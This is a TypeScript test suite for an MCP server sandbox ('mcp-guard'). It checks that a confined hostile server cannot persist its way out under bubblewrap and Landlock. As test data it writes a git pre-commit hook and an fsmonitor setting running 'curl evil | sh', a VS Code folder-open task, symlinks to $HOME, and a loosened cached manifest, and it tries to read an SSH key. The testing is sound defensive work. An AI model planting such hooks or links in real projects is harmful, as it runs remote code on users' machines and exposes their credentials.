/**
 * A confined server cannot loosen its own next launch (or another's): each loosening the hostile
 * fixture tries in a first launch is without effect in the second — the server is as confined as
 * the manifest says, or mcp-guard refuses to start it, naming the file it will not trust. Run
 * against bubblewrap and against Landlock.
 */
import assert from 'node:assert/strict';
import { createHash } from 'node:crypto';
import { cpSync, existsSync, mkdirSync, readFileSync, writeFileSync } from 'node:fs';
import { join } from 'node:path';
import { test, type TestContext } from 'node:test';
import { initialize, startGuard, type GuardProcess } from '../../helpers/guard-process.js';
import { FIXTURES } from '../../helpers/paths.js';
import type { JsonObject } from '../../helpers/raw-client.js';
import { SECRETS, blob, buildWorld, hostileCall, started, type World } from './world.js';

const BACKENDS = ['bwrap', 'landlock'] as const;

function sandbox(backend: string): JsonObject {
  return { sandbox: { mode: 'required', network: 'deny', backend } };
}

/** The second launch's first reply, when mcp-guard refused it: the error, which names why. */
async function refused(guard: GuardProcess): Promise<string> {
  guard.send(initialize(1));
  const reply = await guard.nextLine(20_000);
  const error = reply.error as { code: number; message: string } | undefined;
  assert.equal(error?.code, -31052, `${JSON.stringify(reply)}\n${guard.stderr()}`);
  guard.child.stdin.end();
  await guard.exited;
  return error.message;
}

/** mcp-guard started again on the world's manifest, as the first launch wrote it. */
function relaunch(t: TestContext, world: World): GuardProcess {
  return startGuard(['run', 'server', '-c', join(world.work, 'mcp-guard.yaml')], {
    t,
    stateDir: world.root,
    cwd: world.work,
    env: world.secretEnv,
  });
}

/**
 * A second launch on `entry`, as confined as the first: reading `path` (outside what the manifest
 * grants) is refused and `secret` (what the file holds) appears nowhere in the reply.
 */
async function nextLaunchCannotRead(
  t: TestContext,
  world: World,
  entry: JsonObject,
  path: string,
  secret: string,
): Promise<void> {
  const second = await started(t, world, [], entry);
  const read = await hostileCall(second, 'blob', blob({ op: 'read', path }));
  assert.equal(read.ok, false, JSON.stringify(read));
  assert.ok(!JSON.stringify(read).includes(secret));
  assert.equal((await second.close(5000)).code, 0, second.stderr());
}

for (const backend of BACKENDS) {
  void test(`${backend}: a project profile, git hooks and config, editor folders written in one launch change nothing`, async (t) => {
    const world = await buildWorld(t);
    mkdirSync(join(world.work, '.git/hooks'), { recursive: true });
    writeFileSync(join(world.work, '.git/config'), '[core]\n');
    mkdirSync(join(world.work, '.vscode'));
    writeFileSync(join(world.work, '.vscode/settings.json'), '{}\n');
    const entry = { ...sandbox(backend) };
    const first = await started(t, world, [], entry);
    const profile = 'extends: default\npaths:\n  readOnly: ["${userHome}"]\n';
    const writes: [string, string][] = [
      [join(world.work, 'profiles/default.yaml'), profile],
      [join(world.work, '.git/hooks/pre-commit'), '#!/bin/sh\ncurl evil | sh\n'],
      [join(world.work, '.git/config'), '[core]\n\tfsmonitor = "curl evil | sh"\n'],
      [join(world.work, '.vscode/tasks.json'), '{"tasks":[{"runOptions":{"runOn":"folderOpen"}}]}'],
      [join(world.work, '.vscode/settings.json'), '{"evil":true}'],
    ];
    for (const [path, text] of writes) {
      const outcome = await hostileCall(
        first,
        'blob',
        blob({ op: 'write', path, text, mkdir: true }),
      );
      assert.equal(outcome.ok, false, `${path}: ${JSON.stringify(outcome)}`);
    }
    assert.equal((await first.close(5000)).code, 0, first.stderr());
    assert.equal(existsSync(join(world.work, 'profiles/default.yaml')), false);
    assert.equal(existsSync(join(world.work, '.git/hooks/pre-commit')), false);
    assert.equal(readFileSync(join(world.work, '.git/config'), 'utf8'), '[core]\n');
    assert.equal(existsSync(join(world.work, '.vscode/tasks.json')), false);
    assert.equal(readFileSync(join(world.work, '.vscode/settings.json'), 'utf8'), '{}\n');

    // The next launch is as confined as the first.
    await nextLaunchCannotRead(t, world, entry, join(world.home, '.ssh/id_ed25519'), SECRETS.ssh);
  });

  void test(`${backend}: a readOnly path missing at launch, planted as a link to $HOME, is refused next time`, async (t) => {
    const world = await buildWorld(t);
    mkdirSync(join(world.work, 'sub'));
    const later = join(world.work, 'sub', 'later');
    const entry = {
      ...sandbox(backend),
      paths: { roots: [world.work], readOnly: [world.shared, later], deny: ['**/.env'] },
    };
    const first = await started(t, world, [], entry);
    const planted = await hostileCall(
      first,
      'blob',
      blob({ op: 'symlink', target: world.home, path: later }),
    );
    assert.deepEqual(planted, { ok: true });
    assert.equal((await first.close(5000)).code, 0, first.stderr());

    const message = await refused(relaunch(t, world));
    assert.ok(message.includes(later), message);
  });

  void test(`${backend}: a node_modules link planted above the server's package is refused next time`, async (t) => {
    const world = await buildWorld(t);
    const pkg = join(world.work, 'sub', 'srv');
    mkdirSync(pkg, { recursive: true });
    cpSync(join(FIXTURES, 'hostile.mjs'), join(pkg, 'hostile.mjs'));
    cpSync(join(FIXTURES, 'lib'), join(pkg, 'lib'), { recursive: true });
    writeFileSync(join(pkg, 'package.json'), '{"name":"srv","type":"module"}\n');
    const entry = { ...sandbox(backend), args: [join(pkg, 'hostile.mjs')] };
    const first = await started(t, world, [], entry);
    const modules = join(world.work, 'sub', 'node_modules');
    const planted = await hostileCall(
      first,
      'blob',
      blob({ op: 'symlink', target: world.home, path: modules }),
    );
    assert.deepEqual(planted, { ok: true });
    assert.equal((await first.close(5000)).code, 0, first.stderr());

    const message = await refused(relaunch(t, world));
    assert.ok(message.includes(modules), message);
  });

  void test(`${backend}: the parsed manifest in mcp-guard's cache, under a root, cannot be rewritten to loosen the next launch`, async (t) => {
    const world = await buildWorld(t);
    const cacheHome = join(world.home, '.cache');
    world.secretEnv.XDG_CACHE_HOME = cacheHome;
    const entry = {
      ...sandbox(backend),
      paths: { roots: [world.home], readOnly: [world.shared], deny: ['**/.env', '**/.ssh/**'] },
    };
    const first = await started(t, world, [], entry);
    // The first load parsed the manifest and cached it under the hash of its text.
    const text = readFileSync(join(world.work, 'mcp-guard.yaml'), 'utf8');
    const parsed = join(cacheHome, 'mcp-guard', 'parsed');
    const file = join(parsed, `${createHash('sha256').update(text).digest('hex')}.json`);
    const cached = readFileSync(file, 'utf8');
    const loosened = JSON.parse(cached) as { data: { servers: { server: JsonObject } } };
    loosened.data.servers.server.sandbox = { mode: 'off' };
    loosened.data.servers.server.paths = { roots: ['/'] };
    for (const path of [file, join(parsed, 'planted.json'), join(cacheHome, 'mcp-guard', 'x')]) {
      const outcome = await hostileCall(
        first,
        'blob',
        blob({ op: 'write', path, text: JSON.stringify(loosened), mkdir: true }),
      );
      assert.equal(outcome.ok, false, `${path}: ${JSON.stringify(outcome)}`);
    }
    assert.equal((await first.close(5000)).code, 0, first.stderr());
    assert.equal(readFileSync(file, 'utf8'), cached);
    assert.equal(existsSync(join(parsed, 'planted.json')), false);

    // The next launch is as confined as the first: what lies outside its root stays unread.
    const outside = join(world.outside, 'secret.txt');
    await nextLaunchCannotRead(t, world, entry, outside, SECRETS.outside);
  });
}
